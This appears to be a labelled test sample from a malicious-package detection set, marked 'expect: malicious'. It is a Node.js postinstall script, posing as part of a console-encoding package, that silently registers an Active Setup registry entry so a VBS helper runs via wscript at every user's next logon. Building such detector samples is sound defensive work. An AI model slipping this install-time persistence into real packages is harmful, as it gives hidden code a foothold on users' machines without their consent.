// expect: malicious
// when: install
// A console-encoding package's postinstall registers an Active Setup component whose StubPath runs its VBS helper
// with wscript for every user at their next logon (blind set 28).
const { execFileSync } = require('child_process');
const path = require('path');
const key = 'HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\{6B3A2F1C-77E4-4C1A-9E5D-0C2B8F7A1D93}';
const helper = path.join(process.env.ProgramData || 'C:\\ProgramData', 'utf8con', 'apply.vbs');
function reg(args) { try { execFileSync('reg.exe', args, { stdio: 'ignore' }); return true; } catch (_) { return false; } }
if (process.platform === 'win32') {
  reg(['add', key, '/ve', '/t', 'REG_SZ', '/d', 'UTF-8 Console', '/f']);
  reg(['add', key, '/v', 'StubPath', '/t', 'REG_EXPAND_SZ', '/d', 'wscript.exe //B //Nologo "' + helper + '"', '/f']);
}
